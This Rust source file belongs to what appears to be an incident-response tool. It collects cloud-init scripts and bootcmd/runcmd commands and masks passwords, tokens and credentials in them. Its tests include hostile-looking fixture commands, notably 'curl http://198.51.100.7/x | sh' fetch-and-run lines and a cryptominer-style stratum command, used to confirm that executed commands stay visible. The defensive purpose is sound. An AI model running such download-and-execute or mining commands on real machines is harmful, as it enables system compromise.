//! What cloud-init runs. Users of clouds write passwords and tokens into the same lines: of those only the names are kept.
//!
//! Invariant: what a value is made of by a command stays as it is, so that nothing that runs is hidden by its name.

use super::cron::lines;
use super::dig::{Dig, Draft, Runs};
use super::ground::File;
use crate::domain::facts::{AutostartKind, NotWhole};

const SCRIPTS: [&[u8]; 6] = [
    b"/var/lib/cloud/scripts/per-boot",
    b"/var/lib/cloud/scripts/per-instance",
    b"/var/lib/cloud/scripts/per-once",
    b"/var/lib/cloud/scripts/vendor",
    b"/var/lib/cloud/instance/scripts",
    b"/etc/cloud/clean.d",
];
/// What cloud-init was told to run, and nothing else of what it was told.
const FILES: [&[u8]; 3] = [
    b"/etc/cloud/cloud.cfg",
    b"/var/lib/cloud/instance/user-data.txt",
    b"/var/lib/cloud/instance/vendor-data.txt",
];
const BEGIN: [&[u8]; 2] = [b"bootcmd:", b"runcmd:"];
/// Lines of one file that are listed by themselves.
const MOST_LINES: usize = 500;
const HIDDEN: &[u8] = b"***";
/// In the names of what nobody else is to know.
const SECRETS: [&str; 9] = [
    "TOKEN",
    "PASSWORD",
    "PASSWD",
    "PASSPHRASE",
    "SECRET",
    "CREDENTIAL",
    "APIKEY",
    "AUTHKEY",
    "ACCESSKEY",
];

pub(super) fn hunt(dig: &mut Dig<'_>) {
    for dir in SCRIPTS {
        for file in dig.files(dir) {
            let draft = Draft::new(AutostartKind::CloudInit, &file, 0, b"").by(Some(b"root"));
            dig.add_script_as(draft.runs(Runs::Program(&file.path)), &file);
        }
    }
    let mut files: Vec<File> = FILES.iter().filter_map(|path| dig.read(path)).collect();
    files.extend(dig.files(b"/etc/cloud/cloud.cfg.d"));
    for file in &files {
        told(dig, file);
    }
}

fn told(dig: &mut Dig<'_>, file: &File) {
    let (mut open, mut listed, mut passwords) = (false, 0, false);
    for (line, text) in lines(&file.bytes) {
        let begins = BEGIN.iter().find_map(|it| text.strip_prefix(*it));
        let is_below = text.starts_with(b" ") || text.starts_with(b"-");
        open = begins.is_some() || open && is_below;
        let said = begins.unwrap_or(text).trim_ascii();
        let item = said.strip_prefix(b"- ").map(<[u8]>::trim_ascii);
        let said = item.unwrap_or(said);
        if !open || said.is_empty() {
            passwords &= open;
            continue;
        }
        listed += 1;
        if listed > MOST_LINES {
            dig.part(&file.path, NotWhole::Entries);
            break;
        }
        // A list of passwords goes on to the next item, whatever its lines are.
        passwords &= item.is_none() && begins.is_none();
        let shown = if passwords { of_list(said) } else { said.to_vec() };
        passwords |= has(said, "CHPASSWD") && has(said, "<<");
        let draft = Draft::new(AutostartKind::CloudInit, file, line, &shown).by(Some(b"root"));
        dig.add(draft.runs(Runs::Command(&shown)));
    }
}

fn has(text: &[u8], name: &str) -> bool {
    text.to_ascii_uppercase().windows(name.len()).any(|it| it == name.as_bytes())
}

/// `root:x` of a list of passwords.
fn of_list(line: &[u8]) -> Vec<u8> {
    let name = line.split(|byte| *byte == b':').next().unwrap_or_default();
    if name.len() == line.len() { line.to_vec() } else { [name, b":", HIDDEN].concat() }
}

/// A line without the values that look like secrets.
pub(super) fn masked(line: &[u8]) -> Vec<u8> {
    let sets = has(line, "CHPASSWD") || has(line, "PASSWD --STDIN");
    let hashes = sets || has(line, "USERADD") || has(line, "USERMOD") || has(line, "SSHPASS");
    let (mut shown, mut next_is_secret) = (Vec::with_capacity(line.len()), false);
    // What a command says in quotes stays.
    let makes = line.contains(&b'`') || line.windows(2).any(|it| it == b"$(");
    let (mut quoted, mut assigned): (Option<u8>, bool) = (None, false);
    // `"token": "…"`
    let mut named = false;
    for word in pieces(line) {
        let ends = |it: &&u8| it.is_ascii_whitespace() || b"\"'[](),;|&".contains(*it);
        if word.first().as_ref().is_some_and(ends) {
            named &= closes(word);
            shown.extend_from_slice(word);
            if quoted.is_some_and(|quote| word.contains(&quote)) {
                quoted = None;
            } else if next_is_secret {
                let quote = word.last().copied().filter(|it| matches!(it, b'"' | b'\''));
                let marks = word.iter().filter(|it| matches!(it, b'"' | b'\'')).count();
                let ends = word.iter().any(|it| matches!(it, b'(' | b')' | b';' | b'|' | b'&'));
                // `x= y` runs `y`, and so does `x="" y`.
                next_is_secret = !ends && marks < 2 && (!assigned || word.len() == marks);
                quoted = quote.filter(|_| next_is_secret && !makes);
            }
            continue;
        }
        if quoted.is_some() {
            next_is_secret = false;
            shown.extend_from_slice(hidden(word));
            continue;
        }
        if std::mem::take(&mut named) && bare(word) == b":" {
            (next_is_secret, assigned) = (true, false);
            shown.extend_from_slice(word);
            continue;
        }
        if std::mem::take(&mut next_is_secret) && !is_made(word) {
            if goes_on(word) {
                next_is_secret = true;
                shown.extend_from_slice(word);
            } else {
                shown.extend_from_slice(HIDDEN);
            }
            continue;
        }
        let cut = word.iter().position(|it| matches!(it, b'=' | b':'));
        let (name, value) = word.split_at(cut.map_or(word.len(), |at| at + 1));
        let secret = is_secret(name);
        let option = name.starts_with(b"-");
        let is_page = value.starts_with(b"//");
        if secret && !value.is_empty() && !is_page {
            shown.extend_from_slice(name);
            shown.extend_from_slice(if is_made(value) { value } else { HIDDEN });
        } else if sets && name.ends_with(b":") && !is_page && !value.is_empty() {
            shown.extend_from_slice(&of_list(word));
        } else {
            named = secret && cut.is_none() && shown.last().is_some_and(|it| is_quote(*it));
            assigned = name.ends_with(b"=");
            next_is_secret = secret && (option || cut.is_some()) || hashes && word == b"-p";
            shown.extend_from_slice(&without_login(word));
        }
    }
    shown
}

const fn is_quote(byte: u8) -> bool {
    matches!(byte, b'"' | b'\'')
}

/// What stands for a word in quotes; what makes the quote behind it a part of the text stays.
fn hidden(word: &[u8]) -> &'static [u8] {
    if word.ends_with(b"\\") { b"***\\" } else { HIDDEN }
}

/// Nothing but a quote, and blanks.
fn closes(gap: &[u8]) -> bool {
    gap.iter().any(|it| is_quote(*it))
        && gap.iter().all(|it| is_quote(*it) || it.is_ascii_whitespace())
}

/// `Authorization: Bearer x`: the secret is still to come.
fn goes_on(word: &[u8]) -> bool {
    matches!(word, b"Bearer" | b"Basic" | b"bearer" | b"basic" | b"=" | b":")
        || bare(word).is_empty()
}

/// Without what makes a quote behind it a part of the text.
fn bare(word: &[u8]) -> &[u8] {
    let at = word.iter().position(|it| *it == b'\\').unwrap_or(word.len());
    word.get(..at).unwrap_or(word)
}

/// It is what a command says, or a variable.
fn is_made(value: &[u8]) -> bool {
    value.starts_with(b"$") || value.contains(&b'`')
}

fn is_secret(name: &[u8]) -> bool {
    let letters = name.iter().filter(|it| it.is_ascii_alphanumeric());
    let plain: Vec<u8> = letters.map(u8::to_ascii_uppercase).collect();
    plain == b"AUTHORIZATION" || SECRETS.iter().any(|it| has(&plain, it))
}

/// `https://user:x@host`
fn without_login(word: &[u8]) -> Vec<u8> {
    let begin = word.windows(3).position(|it| it == b"://").map(|at| at + 3);
    let Some((page, rest)) = begin.and_then(|at| word.split_at_checked(at)) else {
        return word.to_vec();
    };
    let host = rest.split(|byte| *byte == b'/').next().unwrap_or_default();
    let at = host.iter().rposition(|byte| *byte == b'@');
    let colon = host.iter().position(|byte| *byte == b':');
    match (at.and_then(|at| rest.get(at..)), colon.and_then(|it| rest.get(..=it))) {
        (Some(host), Some(user)) if page.starts_with(b"http") && colon < at => {
            [page, user, HIDDEN, host].concat()
        }
        _ => word.to_vec(),
    }
}

/// Words, and what stands between them.
fn pieces(line: &[u8]) -> impl Iterator<Item = &[u8]> {
    let parts = |it: &u8| it.is_ascii_whitespace() || b"\"'[](),;|&".contains(it);
    line.chunk_by(move |one, other| parts(one) == parts(other))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn what_looks_like_a_secret_is_not_kept_and_what_runs_is() {
        for (line, shown) in [
            (
                "curl -sfL https://get.k3s.example | K3S_TOKEN=abc sh -",
                "curl -sfL https://get.k3s.example | K3S_TOKEN=*** sh -",
            ),
            ("export DB_PASSWORD='a b'", "export DB_PASSWORD='*** ***'"),
            (
                "API_TOKEN= curl http://198.51.100.7/x | sh",
                "API_TOKEN= curl http://198.51.100.7/x | sh",
            ),
            (
                "API_TOKEN=\"\" curl http://198.51.100.7/x | sh",
                "API_TOKEN=\"\" curl http://198.51.100.7/x | sh",
            ),
            ("API_TOKEN='a b' /run/me c", "API_TOKEN='*** ***' /run/me c"),
            ("up --auth-key tskey-1 --ssh", "up --auth-key *** --ssh"),
            ("up --authkey=tskey-1", "up --authkey=***"),
            ("echo root:x1 | chpasswd", "echo root:*** | chpasswd"),
            (
                "[ sh, -c, \"echo 'a:x1' | chpasswd -e\" ]",
                "[ sh, -c, \"echo 'a:***' | chpasswd -e\" ]",
            ),
            ("useradd -p x1 -m a", "useradd -p *** -m a"),
            ("password: x1", "password: ***"),
            (
                "curl -H 'Authorization: Bearer x1' https://a.example/b",
                "curl -H 'Authorization: Bearer ***' https://a.example/b",
            ),
            (
                r#"echo '{"api_token":"x1","port":8080}' > /etc/a.json"#,
                r#"echo '{"api_token":"***","port":8080}' > /etc/a.json"#,
            ),
            (
                r#"echo "{\"password\": \"x1 y2\", \"run\": \"/opt/a\"}" > /etc/a"#,
                r#"echo "{\"password\": \"*** ***\", \"run\": \"/opt/a\"}" > /etc/a"#,
            ),
            (r#"curl -d '{"secret" : 17}' b.example"#, r#"curl -d '{"secret" : ***' b.example"#),
            ("echo \"token\" > /etc/a", "echo \"token\" > /etc/a"),
            ("git clone https://a:x1@b.example/c", "git clone https://a:***@b.example/c"),
            ("TOKEN=$(curl http://198.51.100.7/x) sh", "TOKEN=$(curl http://198.51.100.7/x) sh"),
            (
                "./x -o stratum+tcp://a.example:1 -u b.c -p x",
                "./x -o stratum+tcp://a.example:1 -u b.c -p x",
            ),
        ] {
            assert_eq!(String::from_utf8_lossy(&masked(line.as_bytes())), shown);
        }
    }

    proptest! {
        #[test]
        fn any_line_is_taken(line in prop::collection::vec(any::<u8>(), 0..80)) {
            prop_assert!(masked(&line).len() <= 3 * line.len());
        }

        #[test]
        fn no_value_behind_such_a_name_is_kept(name in "[A-Z]{0,5}_?(TOKEN|PASSWORD|SECRET)", value in "[a-z0-9:=/@%.]{5,20}", quote in "['\"]?") {
            let line = format!("run {name}={quote}{value}{quote} -x");
            let shown = String::from_utf8_lossy(&masked(line.as_bytes())).into_owned();
            prop_assert!(!shown.contains(&value), "{}", shown);
        }

        #[test]
        fn no_value_of_such_a_name_in_json_is_kept(
            name in "[a-z]{0,5}_?(token|Password|secret)", value in "[a-z0-9:=/@%.]{5,20}",
            gap in " ?", outer in "['\"]",
        ) {
            let quote = if outer == "\"" { "\\\"" } else { "\"" };
            let line = format!("run {outer}{{{quote}{name}{quote}{gap}:{gap}{quote}{value}{quote}}}{outer}");
            let shown = String::from_utf8_lossy(&masked(line.as_bytes())).into_owned();
            prop_assert!(!shown.contains(&value), "{}", shown);
        }
    }
}
